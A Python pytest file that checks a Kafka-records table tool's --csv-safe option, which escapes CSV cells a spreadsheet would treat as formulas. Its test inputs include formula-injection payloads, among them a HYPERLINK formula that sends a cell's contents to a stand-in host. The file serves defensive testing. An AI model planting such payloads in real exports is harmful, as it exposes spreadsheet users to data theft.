"""CSV in which a spreadsheet finds no formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet
import pytest

from kafka_records_tables.results.csv_lines import write_csv
from tests.cli.running import run
from tests.tables.topic import Topic

_FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    " =1",
    "\t=1",
    '"=1',
    "\u00a0=1",
    "＝1",
    "a;=1",
    'a; "=1',
    "a\n=1",
    "a\r\n-1",
)
_HARMLESS = ("", "billing", "a=b", "a-b", "1+1", "'=1", "a, =1", "group.id=x")


def written(table: pa.Table, *, is_safe: bool) -> list[list[str]]:
    out = io.StringIO()
    write_csv(table.to_batches(), table.schema, out, is_safe=is_safe)
    return [*csv.reader(io.StringIO(out.getvalue(), newline=""))][1:]


@pytest.mark.parametrize("text", _FORMULAS)
def test_an_apostrophe_is_before_each_formula(text: str) -> None:
    ((cell,),) = written(pa.table({"group_id": [text]}), is_safe=True)
    assert cell.replace("'", "", 1) == text
    # As spreadsheets with several locales and settings read it.
    for end in (";", "\t", "\n", "\r"):
        assert all(part.strip(' \t\r\n"\u00a0')[:1] not in set("=+-@＝＋－＠") - {""} for part in cell.split(end))
    assert written(pa.table({"group_id": [text]}), is_safe=False) == [[text]]


def test_what_is_no_formula_stays() -> None:
    assert written(pa.table({"group_id": _HARMLESS}), is_safe=True) == [[text] for text in _HARMLESS]
    numbers = pa.table({"offset": [-1], "share": [-0.5], "ok": [True]})
    assert written(numbers, is_safe=True) == written(numbers, is_safe=False) == [["-1", "-0.5", "true"]]
    bytes_and_lists = pa.table({"id": [b"\xfb\xff"], "topics": [["=1"]]})
    assert written(bytes_and_lists, is_safe=True) == [["'+/8=", '["=1"]']]


def test_the_command_writes_it(tmp_path: Path) -> None:
    topic = Topic()
    topic.commit('=HYPERLINK("http://x/?"&A1)', 5)
    source = tmp_path / "rows.parquet"
    pa.parquet.write_table(topic.table(), source)
    asked = ("table", "current_offsets", str(source), "--columns", "group_id,offset", "--format", "csv")
    assert run(*asked).lines[1].rstrip("\r") == '"=HYPERLINK(""http://x/?""&A1)",5'
    assert run(*asked, "--csv-safe").lines[1].rstrip("\r") == '"\'=HYPERLINK(""http://x/?""&A1)",5'
    refused = run(*asked[:-1], "json", "--csv-safe")
    assert (refused.status, "--csv-safe needs --format csv" in refused.err) == (2, True)
    for command in ("table", "counts"):
        told = run(command, "--help").out
        assert "--csv-safe" in told
        assert "spreadsheet runs a value that begins with = + - or @ as a formula" in told
